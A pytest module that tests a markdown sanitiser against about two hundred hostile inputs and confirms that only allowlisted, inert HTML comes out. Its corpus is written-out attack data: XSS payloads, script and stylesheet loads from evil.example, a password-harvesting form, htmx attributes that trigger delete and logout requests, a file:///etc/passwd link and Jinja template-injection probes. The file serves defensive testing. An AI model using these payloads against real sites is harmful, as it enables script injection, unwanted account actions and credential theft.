"""render_markdown against hostile input: whatever a person types, only plain, inert HTML comes out.

The output is read back with Python's html.parser (which, like a browser, unescapes
attribute values once) and checked against an allowlist written out here, independently
of webapp/markup.py, so that widening the sanitiser's allowlist fails these tests.
"""
from __future__ import annotations

import re
import unicodedata
from html.parser import HTMLParser

import pytest
from markupsafe import Markup, escape

from webapp.markup import SHORT_TEXT, render_markdown, render_markdown_kept
from webapp.rendered import EXCERPT_LENGTH, rendered_fields

from . import factories
from .conftest import login

ALLOWED_TAGS = {
    "p", "br", "hr", "em", "strong", "del", "code", "pre", "blockquote",
    "ul", "ol", "li", "a", "h1", "h2", "h3", "h4", "h5", "h6",
}
ALLOWED_ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}}
SAFE_SCHEMES = {"http", "https", "mailto"}
LINK_REL = "noopener noreferrer nofollow"
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")


class TagCollector(HTMLParser):
    """Every start tag with its attributes, every end tag, and anything that is not a tag or text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.starts: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.ends: list[str] = []
        self.other: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.starts.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.starts.append((tag, attrs))

    def handle_endtag(self, tag):
        self.ends.append(tag)

    def handle_comment(self, data):
        self.other.append(f"comment {data!r}")

    def handle_decl(self, decl):
        self.other.append(f"declaration {decl!r}")

    def handle_pi(self, data):
        self.other.append(f"processing instruction {data!r}")

    def unknown_decl(self, data):
        self.other.append(f"CDATA/unknown {data!r}")


def collect(html: str) -> TagCollector:
    collector = TagCollector()
    collector.feed(html)
    collector.close()
    return collector


def href_scheme(href: str) -> str | None:
    """The scheme a browser would see, or None for a relative URL.

    html.parser has already unescaped the value once, exactly as a browser does (a second
    unescape would misread the harmless literal text `&#14;javascript:` as a scheme).
    Whitespace, control and format characters are dropped everywhere, not only at the
    ends, which is stricter than a browser.
    """
    kept = "".join(ch for ch in href if not (ch.isspace() or unicodedata.category(ch) in {"Cc", "Cf"}))
    match = _SCHEME.match(kept.lower())
    return match.group(1) if match else None


def assert_inert(html: str) -> None:
    parsed = collect(html)
    assert not parsed.other, parsed.other
    for tag in parsed.ends:
        assert tag in ALLOWED_TAGS, f"</{tag}> in {html!r}"
    for tag, attrs in parsed.starts:
        assert tag in ALLOWED_TAGS, f"<{tag}> in {html!r}"
        names = [name for name, _ in attrs]
        for name in names:
            assert not name.startswith(("on", "hx-", "data-hx-")) and name != "style", f"{name} on <{tag}>"
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()), f"{name} on <{tag}> in {html!r}"
        assert len(names) == len(set(names)), f"repeated attribute on <{tag}>"
        values = dict(attrs)
        if tag == "a":
            assert values.get("rel") == LINK_REL, html
            if values.get("href") is not None:
                scheme = href_scheme(values["href"])
                assert scheme is None or scheme in SAFE_SCHEMES, f"href={values['href']!r}"
        if tag == "ol" and "start" in values:
            assert (values["start"] or "").isdigit()


# (id, input). Every input is something a person could paste into an entry.
SCRIPT = [
    ("script", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-mixed", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("script-module", "<script type=\"module\">import('//evil.example/x.js')</script>"),
    ("script-unclosed", "<script>alert(1)"),
    ("script-newline", "<script\n>alert(1)</script\n>"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-double-lt", "<<script>script>alert(1)<</script>/script>"),
    ("script-slash-attr", "<script/xss src=//evil.example/x.js></script>"),
    ("script-in-div", "<div><script>alert(1)</script></div>"),
    ("script-fence", "```\n<script>alert(1)</script>\n```"),
    ("script-fence-info", '```html" onload="alert(1)\n<script>alert(1)</script>\n```'),
    ("script-indented", "    <script>alert(1)</script>"),
    ("script-inline-code", "`<script>alert(1)</script>`"),
    ("script-quote", "> <script>alert(1)</script>"),
    ("script-list", "- <script>alert(1)</script>"),
    ("script-heading", "# <script>alert(1)</script>"),
    ("script-bold", "**<script>alert(1)</script>**"),
    ("script-link-text", "[<script>alert(1)</script>](https://example.com)"),
    ("script-link-title", '[x](https://example.com "<script>alert(1)</script>")'),
    ("script-escaped", "\\<script>alert(1)\\</script>"),
    ("script-entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("script-numeric", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("script-blank-line", "<script>/*\n\n*/alert(1)</script>"),
    ("noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
]
EVENTS = [
    ("onerror", "<img src=x onerror=alert(1)>"),
    ("onerror-case", "<img src=x OnErRoR=alert(1)>"),
    ("onerror-spaces", '<img src=x onerror  =  "alert(1)">'),
    ("onerror-single", "<img src=x onerror='alert(1)'>"),
    ("onerror-slashes", "<img/src=x/onerror=alert(1)>"),
    ("onerror-newline", "<img src=x\nonerror=alert(1)>"),
    ("onerror-tab", "<img src=x\tonerror=alert(1)>"),
    ("onerror-entity", '<img src="x" onerror="&#97;lert(1)">'),
    ("onload-body", "<body onload=alert(1)>"),
    ("onclick", '<p onclick="alert(1)">x</p>'),
    ("onmouseover-a", '<a href="https://example.com" onmouseover="alert(1)">x</a>'),
    ("backtick-call", "<div onmouseover=alert`1`>x</div>"),
    ("ontoggle", "<details open ontoggle=alert(1)>"),
    ("source-onerror", '<video><source onerror="alert(1)"></video>'),
    ("onfocus-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("p-slash-onclick", "<p/onclick=alert(1)>x"),
    ("title-breakout", '[x](https://example.com "x\\" onclick=\\"alert(1)")'),
    ("title-single-quote", "[x](https://example.com 'x\\' onclick=\\'alert(1)')"),
    ("dest-with-handler", "[x](https://example.com onclick=alert(1))"),
    ("after-title", '[x](<https://example.com> "t" onclick=alert(1))'),
    ("autolink-quote", '<https://example.com"onmouseover="alert(1)>'),
    ("autolink-space", '<https://example.com" onmouseover="alert(1)>'),
]
URLS = [
    ("js", "[x](javascript:alert(1))"),
    ("js-mixed", "[x](JaVaScRiPt:alert(1))"),
    ("js-upper", "[x](JAVASCRIPT:alert(1))"),
    ("js-colon-entity", "[x](javascript&#58;alert(1))"),
    ("js-colon-named", "[x](javascript&colon;alert(1))"),
    ("js-letter-entity", "[x](&#106;avascript:alert(1))"),
    ("js-hex-entities", "[x](&#x6A;&#x61;vascript:alert(1))"),
    ("js-percent-colon", "[x](javascript%3Aalert(1))"),
    ("js-percent-letter", "[x](%6Aavascript:alert(1))"),
    ("js-tab", "[x](java\tscript:alert(1))"),
    ("js-tab-pointy", "[x](<java\tscript:alert(1)>)"),
    ("js-tab-entity", "[x](<java&#9;script:alert(1)>)"),
    ("js-lf-entity", "[x](<java&#10;script:alert(1)>)"),
    ("js-newline", "[x](<java\nscript:alert(1)>)"),
    ("js-ctrl-lead", "[x](\x01javascript:alert(1))"),
    ("js-ctrl-pointy", "[x](<\x01javascript:alert(1)>)"),
    ("js-ctrl-entity", "[x](&#14;javascript:alert(1))"),
    ("js-nul-entity", "[x](java&#0;script:alert(1))"),
    ("js-space-lead", "[x]( javascript:alert(1))"),
    ("js-space-pointy", "[x](<  javascript:alert(1)>)"),
    ("js-comment", "[x](javascript://%0Aalert(1))"),
    ("js-with-title", '[x](javascript:alert(1) "title")'),
    ("js-pointy", "[x](<javascript:alert(1)>)"),
    ("js-backslash", "[x](\\javascript:alert(1))"),
    ("js-in-emphasis", "*[x](javascript:alert(1))*"),
    ("js-second-link", "[x](https://ok.example)[y](javascript:alert(1))"),
    ("autolink-js", "<javascript:alert(1)>"),
    ("autolink-js-case", "<JaVaScRiPt:alert(1)>"),
    ("autolink-js-entity", "<javascript&#58;alert(1)>"),
    ("ref-js", "[x][r]\n\n[r]: javascript:alert(1)"),
    ("ref-js-pointy", '[x]\n\n[x]: <javascript:alert(1)> "t"'),
    ("ref-js-case", "[r]\n\n[r]: JaVaScRiPt:alert(1)"),
    ("ref-js-entity", "[r]\n\n[r]: javascript&#58;alert(1)"),
    ("vbscript", "[x](vbscript:msgbox(1))"),
    ("vbscript-case", "[x](VBScript:msgbox(1))"),
    ("autolink-vbscript", "<vbscript:msgbox(1)>"),
    ("data-html", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("data-html-raw", "[x](data:text/html,<script>alert(1)</script>)"),
    ("data-svg-image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("data-png-image", "![x](data:image/png;base64,iVBORw0KGgo=)"),
    ("data-png-link", "[x](data:image/png;base64,iVBORw0KGgo=)"),
    ("image-js", "![x](javascript:alert(1))"),
    ("image-tracker", "![x](https://evil.example/track.png)"),
    ("autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    ("file", "[x](file:///etc/passwd)"),
    ("feed-js", "[x](feed:javascript:alert(1))"),
    ("livescript", "[x](livescript:alert(1))"),
    ("protocol-relative", "[x](//evil.example/%0Ajavascript:alert(1))"),
    ("quote-in-href", '[x](https://example.com/"onmouseover="alert(1))'),
]
HTMX = [
    ("hx-get-load", '<div hx-get="/admin/users/1/delete" hx-trigger="load">x</div>'),
    ("hx-post-button", '<button hx-post="/journal/1/delete" hx-trigger="load">x</button>'),
    ("hx-on-click", '<a hx-on:click="alert(1)">x</a>'),
    ("hx-on-after", '<a hx-on::after-request="alert(1)">x</a>'),
    ("hx-on-dashes", '<div hx-on--after-request="alert(1)">x</div>'),
    ("data-hx-get", '<div data-hx-get="/x" data-hx-trigger="load">x</div>'),
    ("hx-trigger-first", '<div hx-trigger="load" hx-get="/x">x</div>'),
    ("hx-swap-oob", '<div hx-swap-oob="true" id="main">pwned</div>'),
    ("hx-vals-js", "<div hx-vals='js:{a: alert(1)}' hx-post=\"/x\">x</div>"),
    ("hx-headers", "<div hx-headers='{\"X-CSRFToken\": \"x\"}'>x</div>"),
    ("hx-form-logout", '<form hx-post="/auth/logout" hx-trigger="load"></form>'),
    ("hx-partial-tag", '<hx-partial hx-target="#main">pwned</hx-partial>'),
    ("hx-template", '<template hx-partial hx-target="#main">pwned</template>'),
    ("hx-boost", '<div hx-boost:inherited="true"><a href="/x">x</a></div>'),
    ("hx-action", '<div hx-action="/x" hx-method="post" hx-trigger="load">x</div>'),
    ("hx-upper", '<div HX-GET="/x" HX-TRIGGER="load">x</div>'),
    ("hx-unquoted", "<span hx-get=/x hx-trigger=load>x</span>"),
    ("hx-in-title", '[x](https://example.com "hx-get=/x hx-trigger=load")'),
    ("hx-title-breakout", "[x](https://example.com '\" hx-get=\"/x')"),
    ("hx-title-post", '[x](/journal/1/delete "\\" hx-post=\\"/journal/1/delete\\" hx-trigger=\\"load")'),
    ("hx-as-text", '[hx-get="/x"](https://example.com)'),
    ("hx-as-scheme", "[x](hx-get:/x)"),
    ("hx-in-query", "<https://example.com/?hx-get=/x>"),
    ("hx-kramdown", 'x\n{: hx-get="/x" hx-trigger="load"}'),
    ("hx-attrs-plugin", "# title {hx-get=/x hx-trigger=load}"),
    ("alpine", '<div x-data="{}" x-init="alert(1)">x</div>'),
]
ELEMENTS = [
    ("style-tag", "<style>body{display:none}</style>"),
    ("style-tag-upper", '<STYLE>@import "//evil.example/x.css";</STYLE>'),
    ("style-attr", '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>'),
    ("style-url-js", '<div style="background:url(javascript:alert(1))">x</div>'),
    ("style-expression", "<span style='x:expression(alert(1))'>x</span>"),
    ("link-stylesheet", '<link rel="stylesheet" href="//evil.example/x.css">'),
    ("link-import", '<link rel="import" href="//evil.example">'),
    ("iframe-js", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object", '<object data="javascript:alert(1)"></object>'),
    ("embed", '<embed src="data:text/html,<script>alert(1)</script>">'),
    ("form-phish", '<form action="https://evil.example/"><input name="password"></form>'),
    ("button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    ("textarea", "<textarea><script>alert(1)</script></textarea>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("math-mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("math-href", '<math href="javascript:alert(1)">x</math>'),
    ("base", '<base href="https://evil.example/">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("img", "<img src=x>"),
    ("video-onerror", "<video src=x onerror=alert(1)>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee", "<marquee onstart=alert(1)>"),
    ("isindex", "<isindex action=javascript:alert(1)>"),
    ("frameset", "<frameset onload=alert(1)>"),
    ("portal", "<portal src=//evil.example>"),
    ("dialog", "<dialog open>x</dialog>"),
    ("td-background", '<table><td background="javascript:alert(1)">'),
]
TEMPLATES = [
    ("jinja-expr", "{{7*7}}"),
    ("jinja-stmt", "{% for x in range(10) %}{{x}}{% endfor %}"),
    ("jinja-config", "{{ config }}"),
    ("jinja-mro", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("dollar", "${7*7}"),
    ("ruby", "#{7*7}"),
    ("erb", "<%= 7*7 %>"),
    ("angular", "{{constructor.constructor('alert(1)')()}}"),
]
BROKEN = [
    ("misnested", "<p><em>x</p></em>"),
    ("a-unclosed", "<a href='javascript:alert(1)'>unclosed"),
    ("attr-unclosed", '<img src="x" onerror="alert(1)'),
    ("lt-soup", "<<img src=x onerror=alert(1)//<"),
    ("close-then-script", "</p><script>alert(1)</script><p>"),
    ("tag-in-tag", "<div <script>alert(1)</script>>"),
    ("nested-a", '<a href="https://ok.example"><a href="javascript:alert(1)">x</a></a>'),
    ("md-html-mix", "**bold <i>x** y</i>"),
    ("comment-then-script", "<!-- x --><script>alert(1)</script>"),
    ("comment-short", "<!--><img src=x onerror=alert(1)>-->"),
    ("comment-hides-md", "<!--\n[x](javascript:alert(1))\n-->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("xml-pi", '<?xml version="1.0"?><x onload=alert(1)/>'),
    ("doctype", "<!DOCTYPE html><html onload=alert(1)>"),
    ("entity-decl", "<!ENTITY x SYSTEM 'file:///etc/passwd'>"),
]
CONTROL = [
    ("nul-in-tag", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("nul-lead", "\x00<script>alert(1)</script>"),
    ("nul-in-scheme", "[x](java\x00script:alert(1))"),
    ("nul-in-handler", "<img src=x on\x00error=alert(1)>"),
    ("escape-seq", "\x0b\x0c\x1b[31m<script>alert(1)</script>"),
    ("del-lead", "[x](\x7fjavascript:alert(1))"),
    ("rtl-override", "\u202e<script>alert(1)</script>"),
    ("bom-link", "\ufeff[x](javascript:alert(1))"),
    ("line-separator", "[x](\u2028javascript:alert(1))"),
    ("zero-width", "[x](\u200bjavascript:alert(1))"),
    ("carriage-returns", "\r\n<script>\ralert(1)\r</script>"),
]
LONG = [
    ("long-line", "x" * 50_000 + "<script>alert(1)</script>"),
    ("long-scheme", "[x](" + "javascript:" * 1000 + ")"),
    ("many-lt", "<" * 5000),
    ("many-stars", "*" * 5000 + "[x](javascript:alert(1))"),
    ("many-brackets", "[" * 2000 + "x](javascript:alert(1))"),
    ("deep-quotes", "> " * 500 + "<script>alert(1)</script>"),
    ("deep-lists", "- " * 500 + "[x](javascript:alert(1))"),
    ("many-links", "[x](javascript:alert(1)) " * 2000),
]
CYRILLIC = [
    ("cyr-script", "«<script>алерт</script>»"),
    ("cyr-js-link", "[ссылка](javascript:алерт(1))"),
    ("cyr-onerror", "Привет <img src=x onerror=алерт(1)> мир"),
    ("cyr-js-case", "[Нажми](JaVaScRiPt:alert('привет'))"),
    ("cyr-raw-a", "<a href=\"javascript:alert('Ё')\">ссылка</a>"),
    ("cyr-htmx", 'Запись <div hx-get="/admin" hx-trigger="load">удалить</div>'),
    ("cyr-style", "**Жирный** <style>*{color:red}</style> текст"),
    ("cyr-idn", "[кириллица](http://пример.рф/путь?q=ё)"),
    ("cyr-autolink", "<javascript:алерт(1)>"),
    ("cyr-ref-vbscript", "[а][б]\n\n[б]: vbscript:msgbox(«да»)"),
    ("cyr-template", "{{ 7*7 }} — шаблон"),
    ("cyr-prose", "ссылки с javascript:alert(1) и data:text/html,<b>x</b>"),
    ("cyr-scheme", "[x](жаваскрипт:alert(1))"),
    ("cyr-homoglyph", "[x](jаvascript:alert(1))"),  # the а is Cyrillic
]
CORPUS = SCRIPT + EVENTS + URLS + HTMX + ELEMENTS + TEMPLATES + BROKEN + CONTROL + LONG + CYRILLIC


def test_the_corpus_is_large_and_its_ids_unique():
    ids = [case_id for case_id, _ in CORPUS]
    assert len(ids) >= 100
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("text", [pytest.param(text, id=case_id) for case_id, text in CORPUS])
def test_hostile_input_renders_inert(text):
    assert_inert(str(render_markdown(text)))


def test_short_texts_kept_rendered_are_the_same_every_time():
    """The templates' filter keeps short texts rendered (webapp.markup): the same safe HTML as
    rendering them, on the first view and the next, long texts included."""
    long_text = "Абзац *с выделением*.\n\n" * (SHORT_TEXT // 10)
    for text in [t for _, t in CORPUS] + [long_text, "", None]:
        for _ in range(2):
            assert render_markdown_kept(text) == render_markdown(text)


# The collector itself must catch what it is there to catch.
@pytest.mark.parametrize("html", [
    pytest.param("<script>alert(1)</script>", id="tag"),
    pytest.param('<p onclick="x">y</p>', id="handler"),
    pytest.param('<p hx-get="/x">y</p>', id="htmx"),
    pytest.param('<a href="java&#9;script:alert(1)" rel="noopener noreferrer nofollow">x</a>', id="scheme"),
    pytest.param('<a href=" JAVASCRIPT:alert(1)" rel="noopener noreferrer nofollow">x</a>', id="scheme-case"),
    pytest.param('<a href="https://example.com">x</a>', id="no-rel"),
    pytest.param("<!-- x -->", id="comment"),
])
def test_the_checker_rejects_live_html(html):
    with pytest.raises(AssertionError):
        assert_inert(html)


@pytest.mark.parametrize(("text", "expected"), [
    pytest.param("**жирный**", "<strong>жирный</strong>", id="bold"),
    pytest.param("*курсив*", "<em>курсив</em>", id="italic"),
    pytest.param("- один\n- два", "<ul>\n<li>один</li>\n<li>два</li>\n</ul>", id="list"),
    pytest.param("3. три\n4. четыре", '<ol start="3">', id="ordered-start"),
    pytest.param("> цитата", "<blockquote>\n<p>цитата</p>\n</blockquote>", id="quote"),
    pytest.param("`код`", "<code>код</code>", id="code"),
    pytest.param("```\nprint(1)\n```", "<pre><code>print(1)\n</code></pre>", id="fence"),
    pytest.param("# Заголовок", "<h1>Заголовок</h1>", id="h1"),
    pytest.param("###### Мелкий", "<h6>Мелкий</h6>", id="h6"),
    pytest.param("---", "<hr>", id="rule"),
    pytest.param("строка  \nдальше", "<br>", id="hard-break"),
    pytest.param("[сайт](https://example.com/путь)",
                 '<a href="https://example.com/%D0%BF%D1%83%D1%82%D1%8C" rel="noopener noreferrer nofollow">сайт</a>', id="link"),
    pytest.param('[сайт](https://example.com "Подсказка")', 'title="Подсказка"', id="link-title"),
    pytest.param("<https://example.com>", '<a href="https://example.com" rel="noopener noreferrer nofollow">', id="autolink"),
    pytest.param("[почта](mailto:anna@example.com)", 'href="mailto:anna@example.com"', id="mailto"),
    pytest.param("[раздел](/journal/feed)", 'href="/journal/feed"', id="relative"),
])
def test_ordinary_markdown_renders(text, expected):
    html = str(render_markdown(text))
    assert expected in html
    assert_inert(html)


@pytest.mark.parametrize(("text", "shown"), [
    pytest.param("Прочитала «Войну и мир», ёлки-палки!", "Прочитала «Войну и мир», ёлки-палки!", id="cyrillic"),
    pytest.param("«<script>алерт</script>»", "«&lt;script&gt;алерт&lt;/script&gt;»", id="cyrillic-script"),
    pytest.param("```\n<script>alert(1)</script>\n```", "&lt;script&gt;alert(1)&lt;/script&gt;", id="fenced-script"),
    pytest.param("{{7*7}}", "{{7*7}}", id="jinja-expr"),
    pytest.param("{% if 1 %}да{% endif %}", "{% if 1 %}да{% endif %}", id="jinja-stmt"),
    pytest.param("[x](javascript:alert(1))", "[x](javascript:alert(1))", id="js-link-as-text"),
])
def test_text_is_kept_as_text(text, shown):
    assert shown in str(render_markdown(text))


def test_empty_and_none_render_empty():
    assert str(render_markdown("")) == ""
    assert str(render_markdown(None)) == ""


HOSTILE_BODY = "\n\n".join([
    "«<script>alert(1)</script>»",
    "<img src=x onerror=alert(1)>",
    '<div hx-get="/admin/users" hx-trigger="load">удалить</div>',
    "<a hx-on:click=\"alert(1)\">x</a> [ссылка](javascript:alert(1)) [ok](https://example.com)",
])
_USER_CONTENT = re.compile(r'(<(\w+)\b[^>]*\bclass="user-content"[^>]*>)(.*?)</\2>', re.DOTALL)


def live_tags_with(attribute: str, html: str) -> list[str]:
    """Real tags carrying `attribute`. The same words shown as escaped text (&lt;img onerror=…) are harmless."""
    return re.findall(rf"<[a-zA-Z][^<>]*\s{re.escape(attribute)}\s*=[^<>]*>", html)


def test_entry_page_shows_hostile_body_as_text_inside_hx_ignore(client, people):
    entry = factories.make_entry(people["author"], title="<script>alert(1)</script>", body=HOSTILE_BODY)
    login(client, people["author"])
    response = client.get(f"/journal/{entry}")
    assert response.status_code == 200
    page = response.text
    assert "<script>alert" not in page
    assert not live_tags_with("onerror", page)
    match = _USER_CONTENT.search(page)
    assert match, "no element with class user-content on the page"
    opening, content = match.group(1), match.group(3)
    # htmx 4 does not process anything under [hx-ignore] (see static/vendor/htmx.min.js).
    assert "hx-ignore" in [name for name, _ in collect(opening).starts[0][1]]
    assert not live_tags_with("hx-get", content)
    assert not live_tags_with("hx-on:click", content)
    assert not live_tags_with("hx-trigger", content)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in content  # the person sees what was typed
    assert '<a href="https://example.com" rel="noopener noreferrer nofollow">ok</a>' in content
    assert_inert(content)


def test_entry_list_excerpt_of_hostile_body_is_text(client, people):
    factories.make_entry(people["author"], body=HOSTILE_BODY)
    login(client, people["author"])
    page = client.get("/journal/").text
    assert "<script>alert" not in page
    assert not live_tags_with("onerror", page)
    excerpt = re.search(r'<p class="excerpt">(.*?)</p>', page, re.DOTALL)
    assert excerpt, "no excerpt in the list"
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in excerpt.group(1)
    assert not collect(excerpt.group(1)).starts  # the list shows plain text, no tags at all


# Excerpts for lists (stored with each entry) ---------------------------------------------------

def _excerpt(body: str) -> str:
    return rendered_fields(body, excerpt=True)["excerpt"]


def test_an_excerpt_is_plain_text_cut_at_a_word():
    body = "Первый абзац о **читательской** грамотности и [семинаре](https://example.org).\n\n" + "Слово " * 100
    text = _excerpt(body)
    assert text.startswith("Первый абзац о читательской грамотности и семинаре. Слово")
    assert len(text) <= EXCERPT_LENGTH and text.endswith("Слово…")
    assert "<" not in text and "**" not in text


def test_a_huge_entry_shows_a_short_excerpt_in_the_list(client, people):
    body = ("Абзац о летнем чтении, который повторяется. " * 10 + "\n\n") * 200  # about 90,000 characters
    factories.make_entry(people["author"], body=body)
    login(client, people["author"])
    excerpt = re.search(r'<p class="excerpt">(.*?)</p>', client.get("/journal/").text, re.DOTALL).group(1)
    assert excerpt.startswith("Абзац о летнем чтении") and len(excerpt) <= EXCERPT_LENGTH


def test_an_excerpt_is_text_to_escape_never_markup():
    text = _excerpt('<script>alert(1)</script> <b hx-get="/x">жирный</b> текст')
    assert not isinstance(text, Markup)  # a template escapes it: what was typed shows as typed
    assert str(escape(text)).startswith("&lt;script&gt;")
